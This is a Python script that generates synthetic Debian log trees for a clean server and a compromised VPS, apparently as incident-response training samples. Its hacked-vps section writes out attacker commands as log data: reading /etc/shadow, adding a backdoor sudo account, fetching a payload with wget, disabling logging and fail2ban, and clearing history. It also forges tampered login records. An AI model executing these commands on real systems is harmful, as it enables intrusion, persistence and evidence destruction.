#!/usr/bin/env python3
"""Writes the two authored incidents of this folder again, the same bytes each time: hacked-vps and quiet-server.

usage: samples/make-samples.py            (run from anywhere; Python 3.9 or newer, standard library only)

All hosts, users and addresses are made up (RFC 5737, RFC 3849, example.com)."""
import datetime
import gzip
import os
import random
import shutil
import struct

HERE = os.path.dirname(os.path.abspath(__file__))
JST = datetime.timezone(datetime.timedelta(hours=9))
HOST = "vps1"
NAMES = "admin user test guest oracle postgres ubuntu git ftp mysql pi support www nagios deploy minecraft".split()
OFFICE, HOME = "192.0.2.25", "198.51.100.140"
CRACKER, SECOND, DEPOT = "203.0.113.77", "203.0.113.201", "203.0.113.9"


def at(text):
    return datetime.datetime.strptime(text, "%Y-%m-%d %H:%M:%S").replace(tzinfo=JST)


class Server:
    """Gathers lines by log and login records, then writes a tree like that of a Debian 12 server."""

    def __init__(self, seed):
        self.random = random.Random(seed)
        self.lines = {"auth": [], "syslog": [], "kern": [], "dpkg": [], "access": []}
        self.wtmp, self.btmp, self.lastlog = [], [], {}
        self.apt = []

    def log(self, log, time, program, message, pid=None):
        stamp = time.replace(microsecond=self.random.randrange(1000000)).isoformat(timespec="microseconds")
        tag = program if pid is None else "%s[%d]" % (program, pid)
        self.lines[log].append((time, "%s %s %s: %s" % (stamp, HOST, tag, message)))

    def pid(self):
        return self.random.randrange(700, 98000)

    def record(self, kind, time, user="", line="", ident="", host="", address="", pid=0):
        ip = bytes(int(p) for p in address.split(".")) if address else bytes(4)
        exits = (0, 0)
        return struct.pack("<hxxi32s4s32s256shhiii16s20x", kind, pid, line.encode(), ident.encode(), user.encode(), host.encode(),
                           exits[0], exits[1], 0, int(time.timestamp()), self.random.randrange(1000000), ip + bytes(12))

    def refuse(self, time, address, user, known=False, pid=None):
        pid, port = pid or self.pid(), self.random.randrange(32768, 61000)
        if not known:
            self.log("auth", time, "sshd", "Invalid user %s from %s port %d" % (user, address, port), pid)
        self.log("auth", time, "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s%s"
                 % (address, "  user=" + user if known else ""), pid)
        later = time + datetime.timedelta(seconds=2)
        self.log("auth", later, "sshd", "Failed password for %s%s from %s port %d ssh2" % ("" if known else "invalid user ", user, address, port), pid)
        self.log("auth", later, "sshd", "Connection closed by %s user %s %s port %d [preauth]"
                 % ("authenticating" if known else "invalid", user, address, port), pid)
        self.btmp.append((later, self.record(6, later, user, "ssh:notty", "", address, address, pid)))

    def session(self, time, user, address, minutes, method="publickey", tty=0, uid=1000, commands=(), trace=True):
        """A log-in by SSH with what sudo ran in it. trace=False: its records were overwritten with zeros later."""
        pid, port = self.pid(), self.random.randrange(32768, 61000)
        letters = random.Random(user)
        key = ": ED25519 SHA256:%s" % "".join(letters.choice("ABCDEFGHKLMNPQRSTUVWXYZabcdefghkmnpqrstuvwxyz23456789") for _ in range(43)) \
            if method == "publickey" else ""
        self.log("auth", time, "sshd", "Accepted %s for %s from %s port %d ssh2%s" % (method, user, address, port, key), pid)
        self.log("auth", time, "sshd", "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid), pid)
        self.log("auth", time, "systemd-logind", "New session %d of user %s." % (pid % 900 + 10, user), 512)
        end = time + datetime.timedelta(minutes=minutes)
        for offset, command in commands:
            when = time + datetime.timedelta(seconds=offset)
            self.log("auth", when, "sudo", "%8s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (user, tty, user, command))
            self.log("auth", when, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)" % (user, uid))
            self.log("auth", when + datetime.timedelta(seconds=3), "sudo", "pam_unix(sudo:session): session closed for user root")
        self.log("auth", end, "sshd", "Received disconnect from %s port %d:11: disconnected by user" % (address, port), pid)
        self.log("auth", end, "sshd", "pam_unix(sshd:session): session closed for user %s" % user, pid)
        line = "pts/%d" % tty
        come = self.record(7, time, user, line, "ts/%d" % tty, address, address, pid)
        go = self.record(8, end, "", line, "ts/%d" % tty, "", "", pid)
        self.wtmp += [(time, come if trace else bytes(384)), (end, go if trace else bytes(384))]
        if trace:
            self.lastlog[uid] = struct.pack("<i32s256s", int(time.timestamp()), line.encode(), address.encode())

    def boot(self, time):
        self.wtmp.append((time, self.record(2, time, "reboot", "~", "~~", "6.1.0-31-amd64")))
        later = time + datetime.timedelta(seconds=9)
        self.wtmp.append((later, self.record(1, later, "runlevel", "~", "~~", "6.1.0-31-amd64", "", 53)))
        self.log("kern", time, "kernel", "[    0.000000] Linux version 6.1.0-31-amd64 (debian-kernel@lists.example.com) #1 SMP PREEMPT_DYNAMIC")
        self.log("syslog", time, "systemd", "Started rsyslog.service - System Logging Service.", 1)
        self.log("auth", later, "sshd", "Server listening on 0.0.0.0 port 22.", 611)

    def heartbeat(self, start, end, quiet=()):
        """cron's hourly line, as every Debian writes it, but for the spans in quiet."""
        time = start.replace(minute=17, second=1)
        while time < end:
            if not any(a <= time < b for a, b in quiet):
                pid = self.pid()
                self.log("auth", time, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", pid)
                self.log("auth", time, "CRON", "pam_unix(cron:session): session closed for user root", pid)
                self.log("syslog", time, "CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)", pid)
            time += datetime.timedelta(hours=1)

    def noise(self, start, end, per_day):
        """The guessing that every server on the internet sees."""
        sources = ["198.51.100.%d" % n for n in self.random.sample(range(2, 120), 30)] + ["2001:db8:77::%x" % n for n in range(3)]
        day = start
        while day < end:
            for _ in range(per_day):
                time = day + datetime.timedelta(seconds=self.random.randrange(86400))
                if time < end:
                    source = self.random.choice(sources)
                    user = "root" if self.random.random() < 0.5 else self.random.choice(NAMES)
                    if ":" not in source:
                        self.refuse(time, source, user, known=user == "root")
            day += datetime.timedelta(days=1)

    def package(self, time, verb, name, version, line=None):
        stamp = time.strftime("%Y-%m-%d %H:%M:%S")
        self.lines["dpkg"].append((time, "%s startup %s" % (stamp, "packages remove" if verb == "remove" else "archives unpack")))
        old, new = ("<none>", version) if verb == "install" else (version, "<none>" if verb == "remove" else version + "+1")
        self.lines["dpkg"].append((time, "%s %s %s:amd64 %s %s" % (stamp, verb, name, old, new)))
        self.lines["dpkg"].append((time, "%s status %s %s:amd64 %s" % (stamp, "not-installed" if verb == "remove" else "installed", name, version)))
        if line:
            word = {"install": "Install", "remove": "Remove", "upgrade": "Upgrade"}[verb]
            self.apt.append((time, "\nStart-Date: %s\nCommandline: %s\n%s: %s:amd64 (%s)\nEnd-Date: %s\n"
                             % (time.strftime("%Y-%m-%d  %H:%M:%S"), line, word, name, version, (time + datetime.timedelta(seconds=6)).strftime("%Y-%m-%d  %H:%M:%S"))))

    def visit(self, time, address, request, status, size, agent="Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"):
        self.lines["access"].append((time, '%s - - [%s] "%s" %d %d "-" "%s"' % (address, time.strftime("%d/%b/%Y:%H:%M:%S +0900"), request, status, size, agent)))

    def visits(self, start, end, per_day):
        day = start
        while day < end:
            for _ in range(per_day):
                time = day + datetime.timedelta(seconds=self.random.randrange(86400))
                if time < end:
                    page = self.random.choice(["/", "/blog/", "/about/", "/style.css", "/feed.xml", "/blog/2026/02/snow/"])
                    self.visit(time, "192.0.2.%d" % self.random.randrange(60, 250), "GET %s HTTP/1.1" % page, 200, self.random.randrange(900, 48000))
            day += datetime.timedelta(days=1)

    # ---- writing

    def write(self, root, weeks, syslog_from, passwd):
        shutil.rmtree(root, ignore_errors=True)
        self.text(root, "etc/hostname", HOST + "\n")
        self.text(root, "etc/timezone", "Asia/Tokyo\n")
        self.text(root, "etc/os-release", 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n')
        self.text(root, "etc/passwd", passwd)
        self.weekly(root, "auth.log", self.lines["auth"], weeks)
        self.weekly(root, "kern.log", self.lines["kern"], weeks)
        self.daily(root, "syslog", [l for l in self.lines["syslog"] if l[0] >= syslog_from])
        self.text(root, "var/log/dpkg.log", joined(self.lines["dpkg"]))
        self.text(root, "var/log/apt/history.log", "".join(text for _, text in sorted(self.apt, key=lambda a: a[0])))
        self.text(root, "var/log/nginx/access.log", joined(self.lines["access"]))
        self.bytes(root, "var/log/wtmp", b"".join(r for _, r in sorted(self.wtmp, key=lambda r: r[0])))
        self.bytes(root, "var/log/btmp", b"".join(r for t, r in sorted(self.btmp, key=lambda r: r[0]) if t >= weeks[-1]))
        slots = bytearray(292 * (max(self.lastlog) + 1))
        for uid, slot in self.lastlog.items():
            slots[292 * uid:292 * (uid + 1)] = slot
        self.bytes(root, "var/log/lastlog", bytes(slots))

    def weekly(self, root, name, lines, weeks):
        """logrotate's weekly parts: weeks are the instants of rotation, oldest first."""
        bounds = [at("2000-01-01 00:00:00")] + weeks + [at("2100-01-01 00:00:00")]
        for number, (a, b) in enumerate(zip(reversed(bounds[:-1]), reversed(bounds[1:]))):
            part = joined([l for l in lines if a <= l[0] < b])
            if part or number == 0:
                self.part(root, name, number, part)

    def daily(self, root, name, lines):
        days = sorted({l[0].date() for l in lines}, reverse=True)
        for number, day in enumerate(days):
            self.part(root, name, number, joined([l for l in lines if l[0].date() == day]))

    def part(self, root, name, number, text):
        if number == 0:
            self.text(root, "var/log/" + name, text)
        elif number == 1:
            self.text(root, "var/log/%s.1" % name, text)
        else:
            self.bytes(root, "var/log/%s.%d.gz" % (name, number), gzip.compress(text.encode(), mtime=0))

    def text(self, root, path, text):
        self.bytes(root, path, text.encode())

    def bytes(self, root, path, data):
        full = os.path.join(root, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(data)


def joined(lines):
    return "".join(text + "\n" for _, text in sorted(lines, key=lambda l: l[0]))


PASSWD = ("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
          "hana:x:1000:1000:Hana:/home/hana:/bin/bash\n")
WEEKS = [at("2026-02-08 00:00:03"), at("2026-02-15 00:00:03"), at("2026-02-22 00:00:03"), at("2026-03-01 00:00:03")]


def everyday(server, end, quiet=()):
    """What both servers have in common: the owner's work, upgrades, visitors, guessing from outside."""
    start = at("2026-02-02 09:00:00")
    server.boot(start)
    server.heartbeat(start, end, quiet)
    server.noise(at("2026-02-02 00:00:00") + datetime.timedelta(hours=9), end, 14)
    server.visits(start, end, 12)
    day = at("2026-02-02 10:12:00")
    while day < end:
        if day.weekday() < 5:
            minute = datetime.timedelta(minutes=server.random.randrange(90))
            address = OFFICE if server.random.random() < 0.8 else HOME
            work = [(40, "/usr/bin/apt update")] if day.weekday() == 1 else []
            server.session(day + minute, "hana", address, 10 + server.random.randrange(40), commands=work)
        if day.weekday() == 2:
            server.package(day.replace(hour=6, minute=31, second=server.random.randrange(60)), "upgrade", "libssl3", "3.0.%d-1~deb12u1" % day.day, "/usr/bin/unattended-upgrade")
        day += datetime.timedelta(days=1)
    server.refuse(at("2026-02-12 10:40:11"), OFFICE, "hana", known=True)
    server.session(at("2026-02-12 10:40:31"), "hana", OFFICE, 12, method="password")


def quiet_server():
    server = Server(20260302)
    end = at("2026-03-02 12:00:00")
    everyday(server, end)
    server.package(at("2026-02-18 14:02:10"), "install", "ncdu", "1.18-0.2", "apt install ncdu")
    server.write(os.path.join(HERE, "quiet-server"), WEEKS, at("2026-02-24 00:00:00"), PASSWD)


def hacked_vps():
    server = Server(20260215)
    end = at("2026-03-02 12:00:00")
    hole = (at("2026-02-16 00:00:00"), at("2026-02-16 09:00:00"))
    everyday(server, end, quiet=[hole])
    server.log("auth", at("2026-02-05 15:02:11"), "useradd", "new user: name=test, UID=1001, GID=1001, home=/home/test, shell=/bin/bash, from=/dev/pts/0", 4210)
    server.log("auth", at("2026-02-05 15:02:40"), "usermod", "add 'test' to group 'sudo'", 4221)

    # Guessing all night, and the password that fits.
    time = at("2026-02-14 21:47:05")
    for number in range(412):
        user = server.random.choice(["root", "test", "admin", "ubuntu", "oracle"])
        server.refuse(time, CRACKER, user, known=user in ("root", "test"))
        time += datetime.timedelta(seconds=server.random.randrange(35, 58))
    entry = at("2026-02-15 03:12:44")
    server.session(entry, "test", CRACKER, 31, method="password", tty=1, uid=1001, trace=False, commands=[
        (71, "/usr/bin/id"),
        (130, "/usr/bin/cat /etc/shadow"),
        (215, "/usr/sbin/useradd -m -s /bin/bash -G sudo sysadm"),
        (341, "/usr/bin/wget -q http://%s/wp.tgz -O /tmp/.cache/wp.tgz" % DEPOT),
        (395, "/usr/bin/crontab /tmp/.cache/c"),
        (470, "/usr/bin/systemctl stop rsyslog"),
        (1790, "/usr/bin/bash"),
    ])
    server.log("auth", entry + datetime.timedelta(seconds=216), "useradd", "new user: name=sysadm, UID=1002, GID=1002, home=/home/sysadm, shell=/bin/bash, from=/dev/pts/1", 23871)
    server.log("auth", entry + datetime.timedelta(seconds=216), "useradd", "add 'sysadm' to group 'sudo'", 23871)
    server.log("auth", entry + datetime.timedelta(seconds=396), "crontab", "(root) REPLACE (root)", 23990)
    stop = entry + datetime.timedelta(seconds=471)
    server.log("auth", stop, "rsyslogd", '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="498" x-info="https://www.rsyslog.com"] exiting on signal 15.')
    server.log("auth", stop + datetime.timedelta(minutes=21), "rsyslogd", '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="24410" x-info="https://www.rsyslog.com"] start')
    server.package(at("2026-02-15 03:31:20"), "remove", "fail2ban", "1.0.2-2", "apt-get -y remove fail2ban")

    # They come back through the account they made, attack from here, and clean up.
    server.session(at("2026-02-18 23:04:09"), "sysadm", SECOND, 22, method="password", tty=2, uid=1002, trace=False, commands=[
        (60, "/usr/bin/tar -xzf /tmp/.cache/wp.tgz -C /tmp/.cache"),
        (200, "/usr/bin/chattr +i /var/spool/cron/crontabs/root"),
        (900, "/usr/bin/bash -c history -c; cat /dev/null > /root/.bash_history"),
    ])
    server.session(at("2026-02-20 20:21:50"), "sysadm", SECOND, 44, method="password", tty=2, uid=1002, trace=False, commands=[
        (95, "/usr/bin/python3 /tmp/.cache/wpbrute.py -l /tmp/.cache/targets.txt -t 64"),
    ])
    for number in range(3):
        server.session(at("2026-02-2%d 02:10:30" % (number + 3)), "sysadm", SECOND, 9, method="password", tty=2, uid=1002)
    server.lines["auth"] = [l for l in server.lines["auth"] if not hole[0] <= l[0] < hole[1]]
    root = os.path.join(HERE, "hacked-vps")
    server.write(root, WEEKS, at("2026-02-27 00:00:00"), PASSWD + "test:x:1001:1001::/home/test:/bin/bash\nsysadm:x:1002:1002::/home/sysadm:/bin/bash\n")
    server.text(root, "notice.txt", NOTICE)


NOTICE = """From: Abuse Desk <abuse@hoster.example.com>
To: hana@example.com
Date: Sat, 21 Feb 2026 09:15:02 +0100
Subject: [AB-20260221-0417] Your server 192.0.2.10 attacks other sites

Dear customer,

we were told that your server 192.0.2.10 tries passwords on the log-in pages of other
people's WordPress sites. Lines from the log of one of them (time zone +0100):

192.0.2.10 - - [20/Feb/2026:12:30:35 +0100] "POST /wp-login.php HTTP/1.1" 200 4523 "-" "Mozilla/5.0"
192.0.2.10 - - [20/Feb/2026:12:30:36 +0100] "POST /wp-login.php HTTP/1.1" 200 4523 "-" "Mozilla/5.0"
192.0.2.10 - - [20/Feb/2026:12:31:02 +0100] "POST /wp-login.php HTTP/1.1" 200 4523 "-" "Mozilla/5.0"
192.0.2.10 - - [20/Feb/2026:12:44:19 +0100] "POST /wp-login.php HTTP/1.1" 200 4523 "-" "Mozilla/5.0"

Please find the cause and answer within 24 hours, or we will have to disconnect the server.

Abuse Desk
"""

if __name__ == "__main__":
    hacked_vps()
    quiet_server()
